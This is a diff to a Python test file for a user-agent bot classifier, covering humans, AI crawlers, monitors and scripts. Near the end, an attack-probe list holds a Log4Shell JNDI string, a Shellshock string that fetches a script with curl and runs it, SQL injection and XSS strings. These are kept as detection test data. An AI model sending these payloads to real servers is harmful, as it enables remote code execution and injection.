@@ -294,6 +294,90 @@ HUMANS: list[tuple[str, str, str | None]] = [
     ),
 ]
 
+HUMANS += [
+    (
+        "Mozilla/5.0 (Linux; Android 14; SM-S928B Build/UP1A.231005.007; wv) AppleWebKit/537.36 "
+        "(KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 Line/14.8.1",
+        "android",
+        "line",
+    ),
+    (
+        "Mozilla/5.0 (Linux; Android 13; 22081212UG Build/TKQ1.220829.002; wv) AppleWebKit/537.36 "
+        "(KHTML, like Gecko) Version/4.0 Chrome/116.0.0.0 Mobile Safari/537.36 XWEB/1160065 "
+        "MMWEBSDK/20231202 MMWEBID/2247 MicroMessenger/8.0.47.2560(0x28002F30) WeChat/arm64 "
+        "Weixin NetType/WIFI Language/zh_CN ABI/arm64",
+        "android",
+        "wechat",
+    ),
+    (
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
+        "like Gecko) Mobile/15E148 Twitter for iPhone/10.48",
+        "ios",
+        "twitter",
+    ),
+    (
+        "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240605.024; wv) AppleWebKit/537.36 "
+        "(KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 "
+        "[Pinterest/Android]",
+        "android",
+        "pinterest",
+    ),
+    (
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
+        "like Gecko) Mobile/15E148 Telegram/10.13.1",
+        "ios",
+        "telegram",
+    ),
+    (
+        "Mozilla/5.0 (Linux; Android 14; SM-A155F Build/UP1A.231005.007; wv) AppleWebKit/537.36 "
+        "(KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 "
+        "[FB_IAB/FB4A;FBAV/470.0.0.43.108;] Instagram 338.0.0.24.102 Android (34/14; 450dpi; "
+        "1080x2340; samsung; SM-A155F; a15; mt6789; en_GB; 618134567)",
+        "android",
+        "instagram",
+    ),
+    (
+        "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+        "Mobile/15E148 Instagram 337.0.3.23.54 (iPad13,16; iPadOS 17_5; en_US; en; scale=2.00; "
+        "1640x2360; 614123456)",
+        "ios",
+        "instagram",
+    ),
+]
+
+# Fans whose user agents contain words that loose substring rules took for robots.
+FANS_WITH_ROBOT_LOOKING_WORDS = [
+    # "cron" in Cronet (Chrome's network stack in Android apps)
+    "com.google.android.apps.searchlite/101032 (Linux; U; Android 8.1.0; ru_RU; M580; "
+    "Build/O11019; Cronet/74.0.3729.182)",
+    # phone models: Sonic, Bot, Spider, Butterfly
+    "Mozilla/5.0 (Linux; Android 5.1; O+ Sonic) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/80.0.3987.162 Mobile Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 7.0; C Bot Tab 100) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/74.0.3729.157 Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 4.2.2; HTC Butterfly Build/JDQ39) AppleWebKit/537.36 (KHTML, "
+    "like Gecko) Chrome/31.0.1650.59 Mobile Safari/537.36",
+    # "Demo"/"Demonstration" and a BOTECH vendor in a smart TV's HbbTV comment
+    "Mozilla/5.0 (Linux; Andr0id 9; ATV R1) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/77.0.3865.120 Safari/537.36 OPR/46.0.2207.0 OMI/4.20.5.31.Oak.45 HbbTV/1.5.1 "
+    "(+DRM;BOTECH;ATV R1;Demo 1.0;Demonstration only;TVs;) FVC/5.0 (BOTECH;ATV R1;)",
+    # "Word/" in 1Password's web view, "Buddy" in an app name
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
+    "Gecko) Mobile/15E148 1Password/8.10.36",
+    "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/121.0.0.0 Mobile Safari/537.36 StudyBuddy/2.3",
+    # a search engine's name inside a real browser's
+    "Mozilla/5.0 (Linux; Android 10; TLA001 Build/QP1A.190711.020; wv) AppleWebKit/537.36 "
+    "(KHTML, like Gecko) Version/4.0 Chrome/80.0.3987.132 Safari/537.36 "
+    "SogouMSE,SogouMobileBrowser/6.1.5",
+    # reverse-DNS app ids are no URLs
+    "Mozilla/5.0 (Linux; Android 16; SC-51F Build/BP4A.251205.006; wv) AppleWebKit/537.36 "
+    "(KHTML, like Gecko) Version/4.0 Chrome/152.0.7977.88 Mobile Safari/537.36 YJApp-ANDROID "
+    "jp.co.yahoo.android.yjtop/4.1.0",
+]
+
 PREVIEW_BOTS = [
     "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
     "facebookexternalhit/1.1 Facebot Twitterbot/1.0",  # iMessage
@@ -413,25 +497,34 @@ def test_a_robot_posing_as_an_in_app_browser_but_giving_its_url_is_a_bot() -> No
     assert agent.in_app is None
 
 
-def test_the_fast_crawler_matcher_agrees_with_crawlerdetect() -> None:
-    # Our Rust-backed copy of crawlerdetect's patterns must say exactly what crawlerdetect
-    # says, so we compare on every listed instance and every human.
-    from launchlink.kit.useragent import _get_matchers
-
-    matchers = _get_matchers()
+def test_every_crawler_crawlerdetect_knows_is_still_a_bot() -> None:
+    # Our Rust-backed copy of crawlerdetect's patterns skips a few loose ones (documented in
+    # _SKIPPED_CRAWLERDETECT_PATTERNS) and matches the rest at word boundaries; whatever
+    # crawlerdetect flags among the listed crawlers must still be a bot.
     detector = CrawlerDetect()
-    samples = [ua for _, ua in _listed_instances()] + [ua for ua, _, _ in HUMANS]
-    disagreements = [
+    missed = [
         ua
-        for ua in samples
-        if matchers.crawlerdetect_says_bot(ua.strip()) != detector.is_crawler(ua)
+        for pattern, ua in _listed_instances()
+        if detector.is_crawler(ua) and not classify(ua).is_bot and pattern not in ALLOWED_HUMANS
     ]
-    assert disagreements == []
+    assert missed == []
+
+
+def test_where_our_crawlerdetect_copy_differs_it_is_for_a_documented_pattern() -> None:
+    from crawlerdetect.providers.crawlers import data as crawlerdetect_patterns
+
+    from launchlink.kit.useragent import _SKIPPED_CRAWLERDETECT_PATTERNS
+
+    assert set(_SKIPPED_CRAWLERDETECT_PATTERNS) <= set(crawlerdetect_patterns)
+    assert all(reason for reason in _SKIPPED_CRAWLERDETECT_PATTERNS.values())
 
 
 def test_browser_family_comes_from_ua_parser() -> None:
     assert classify(HUMANS[0][0]).browser_family == "Mobile Safari"
-    assert classify(HUMANS[-2][0]).browser_family == "Chrome"
+    windows_chrome = next(
+        ua for ua, _, _ in HUMANS if ua.endswith("Chrome/126.0.0.0 Safari/537.36")
+    )
+    assert classify(windows_chrome).browser_family == "Chrome"
 
 
 def test_answers_are_cached_and_frozen() -> None:
@@ -450,3 +543,244 @@ def test_huge_user_agents_are_truncated_before_matching() -> None:
     assert isinstance(agent, VisitorAgent)
     assert agent.device == "ios"
     assert len(HUMANS[0][0]) < MAX_USER_AGENT_LENGTH
+
+
+@pytest.mark.parametrize("user_agent", FANS_WITH_ROBOT_LOOKING_WORDS)
+def test_robot_looking_words_inside_other_words_or_phone_models_are_not_robots(
+    user_agent: str,
+) -> None:
+    agent = classify(user_agent)
+    assert not agent.is_bot, agent.reason
+    assert agent.bot_class == "human"
+
+
+AI_AGENTS = [
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
+    "+https://openai.com/gptbot)",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; "
+    "+https://openai.com/bot",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0; "
+    "+https://openai.com/searchbot",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
+    "+claudebot@anthropic.com)",
+    "Claude-User/1.0",
+    "Claude-SearchBot/1.0",
+    "anthropic-ai",
+    "cohere-ai",
+    "cohere-training-data-crawler",
+    "Mozilla/5.0 (compatible; Character-AI/1.0; +https://character.ai/)",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; "
+    "+https://perplexity.ai/perplexitybot)",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; "
+    "+https://perplexity.ai/perplexity-user)",
+    "Google-Extended",
+    "Applebot-Extended",
+    "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
+    "(compatible; Bytespider; spider-feedback@bytedance.com)",
+    "CCBot/2.0 (https://commoncrawl.org/faq/)",
+    "Mozilla/5.0 (compatible; Diffbot/0.1; +http://www.diffbot.com)",
+    "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
+    "meta-externalads/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
+    "meta-externalfetcher/1.1",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/0.1; "
+    "+https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 Safari/537.36",
+    "Mozilla/5.0 (compatible; YouBot/1.0; +https://about.you.com/youbot/)",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; MistralAI-User/1.0; "
+    "+https://docs.mistral.ai/robots)",
+    "DuckAssistBot/1.2; (+http://duckduckgo.com/duckassistbot.html)",
+]
+
+MONITORS = [
+    "Datadog Agent/7.54.0",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
+    "Safari/537.36 DatadogSynthetics",
+    "Blackbox Exporter/0.25.0",
+    "Prometheus/2.53.0",
+    "k6/0.51.0 (https://k6.io/)",
+    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
+    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/122.0.0.0 Safari/537.36 StatusCake",
+    "Amazon-Route53-Health-Check-Service (ref 5a0d2d2e-1234-4cde-9f00-6f1b2b3c4d5e; report "
+    "http://amzn.to/1vsZADi)",
+    "Site24x7",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 "
+    "Safari/537.36 NewRelicSynthetics/1.0",
+    "Better Uptime Bot Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
+    "like Gecko) Chrome/120.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/"
+    "124.0.0.0 Safari/537.36 Checkly/3a4b (https://www.checklyhq.com)",
+    "Uptime-Kuma/1.23.13",
+    "ELB-HealthChecker/2.0",
+    "GoogleStackdriverMonitoring-UptimeChecks(https://cloud.google.com/monitoring)",
+    "kube-probe/1.29",
+]
+
+# Nothing a browser sends: scripts, HTTP libraries, junk, attack probes.
+NOT_BROWSER_SHAPED = [
+    "node",
+    "Chrome",
+    "firefox",
+    "Mozilla/5.0",
+    "python-requests/2.32.3",
+    "Go-http-client/2.0",
+    "okhttp/4.12.0",
+    "curl/8.5.0",
+    "Java/17.0.2",
+    "axios/1.7.2",
+    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
+    "Hello, world",
+    "Mozilla/5.0 (compatible; CMSLookup/1.0)",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/112.0.0.0 Safari/537.36 (scanner.ducks.party)",
+]
+ATTACK_PROBES = [
+    "${jndi:ldap://${hostName}.useragent.example.oast.fun}",
+    "() { :; }; /bin/bash -c 'curl http://198.51.100.7/x.sh | sh'",
+    "Mozilla/5.0' OR '1'='1",
+    "Mozilla/5.0 <script>alert(1)</script>",
+    "1 UNION ALL SELECT NULL,NULL--",
+]
+
+
+@pytest.mark.parametrize("user_agent", AI_AGENTS)
+def test_ai_crawlers_and_assistants_are_ai_agents(user_agent: str) -> None:
+    agent = classify(user_agent)
+    assert (agent.is_bot, agent.bot_class) == (True, "ai_agent"), agent.reason
+
+
+@pytest.mark.parametrize("user_agent", MONITORS)
+def test_uptime_and_synthetic_monitors_are_monitors(user_agent: str) -> None:
+    agent = classify(user_agent)
+    assert (agent.is_bot, agent.bot_class) == (True, "monitor"), agent.reason
+
+
+@pytest.mark.parametrize("user_agent", NOT_BROWSER_SHAPED + ATTACK_PROBES)
+def test_scripts_junk_and_probes_are_other_bots(user_agent: str) -> None:
+    agent = classify(user_agent)
+    assert (agent.is_bot, agent.bot_class, agent.is_preview_bot) == (True, "bot", False)
+    assert agent.reason
+
+
+@pytest.mark.parametrize("user_agent", ATTACK_PROBES)
+def test_attack_probes_are_named_as_probes(user_agent: str) -> None:
+    assert (classify(user_agent).reason or "").startswith("probe:")
+
+
+@pytest.mark.parametrize(
+    "user_agent",
+    [
+        "Mozilla/5.0 (compatible; FooResearchCrawler/0.3)",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/140.0.0.0 Safari/537.36 AcmeSiteScanner/2.1",
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/"
+        "125.0.0.0 Safari/537.36",
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/125.0.0.0 Safari/537.36 (+https://example.org/about-our-robot)",
+        "Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3.170816.012; DuplexWeb-Google/1.0) "
+        "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.131 Mobile Safari/537.36",
+    ],
+)
+def test_bots_no_list_names_are_caught_by_the_word_and_shape_rules(user_agent: str) -> None:
+    from launchlink.kit.useragent import classify_without_lists
+
+    assert classify_without_lists(user_agent).is_bot
+    assert classify(user_agent).is_bot
+
+
+def test_a_preview_bot_is_a_preview_class_and_keeps_the_old_flags() -> None:
+    agent = classify(PREVIEW_BOTS[0])
+    assert (agent.bot_class, agent.is_preview_bot, agent.is_bot, agent.is_human) == (
+        "preview",
+        True,
+        True,
+        False,
+    )
+
+
+def test_a_human_has_the_human_class_and_no_reason_to_suspect_it() -> None:
+    agent = classify(HUMANS[0][0])
+    assert (agent.bot_class, agent.is_human, agent.reason) == ("human", True, None)
+
+
+def test_the_tokens_split_on_camel_case_and_punctuation() -> None:
+    from launchlink.kit.useragent import tokens
+
+    assert tokens("CybaaAgent/1.0 (GPTBot; Cronet)") == ["cybaa", "agent", "gpt", "bot", "cronet"]
+
+
+@pytest.mark.parametrize(
+    ("user_agent", "shaped"),
+    [
+        (HUMANS[0][0], True),
+        ("Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15", True),
+        ("Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)", True),
+        (
+            "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like "
+            "Gecko)",
+            True,
+        ),
+        ("okhttp/4.12.0", False),
+        ("Chrome", False),
+        ("Mozilla/5.0 (compatible; Morningscore/1.0)", False),
+    ],
+)
+def test_the_browser_grammar(user_agent: str, shaped: bool) -> None:
+    from launchlink.kit.useragent import browser_shaped
+
+    assert browser_shaped(user_agent) is shaped
+
+
+# --- measured on public corpora (tests/_corpora.py) --------------------------------------
+
+
+def _false_positives(user_agents: list[str]) -> list[tuple[str, str | None]]:
+    return [(ua, agent.reason) for ua in user_agents if (agent := classify(ua)).is_bot]
+
+
+def test_no_real_browser_of_the_fake_useragent_and_intoli_corpora_is_a_bot() -> None:
+    from tests._corpora import fake_useragent_browsers, intoli_browsers
+
+    browsers = sorted(set(fake_useragent_browsers()) | set(intoli_browsers()))
+    assert len(browsers) > 1700
+    assert _false_positives(browsers) == []
+
+
+@pytest.fixture(scope="module")
+def matomo() -> object:
+    from tests._corpora import matomo as load
+
+    return load()
+
+
+def test_at_most_one_in_a_thousand_of_matomos_real_browsers_is_a_bot(matomo: object) -> None:
+    from tests._corpora import MatomoCorpus
+
+    assert isinstance(matomo, MatomoCorpus)
+    assert len(matomo.browsers) > 30_000
+    wrong = _false_positives(matomo.browsers)
+    assert len(wrong) / len(matomo.browsers) <= 0.001, wrong[:20]
+
+
+def test_matomos_held_out_bots_are_found_with_the_lists_and_without(matomo: object) -> None:
+    from tests._corpora import MatomoCorpus
+
+    from launchlink.kit.useragent import classify_without_lists
+
+    assert isinstance(matomo, MatomoCorpus)
+    held_out = [ua for ua, _ in matomo.bots_held_out()]
+    assert len(held_out) > 600
+    for classifier in (classify, classify_without_lists):
+        found = sum(1 for ua in held_out if classifier(ua).is_bot)
+        assert found / len(held_out) >= 0.97
+
+
+def test_the_crawler_list_is_found_without_the_list_itself() -> None:
+    # Leave-out: the list's own patterns are off; only the rules and crawlerdetect remain.
+    from tests._corpora import crawler_list_instances
+
+    from launchlink.kit.useragent import classify_without_lists
+
+    instances = [ua for _, ua in crawler_list_instances()]
+    found = sum(1 for ua in instances if classify_without_lists(ua).is_bot)
+    assert found / len(instances) >= 0.97
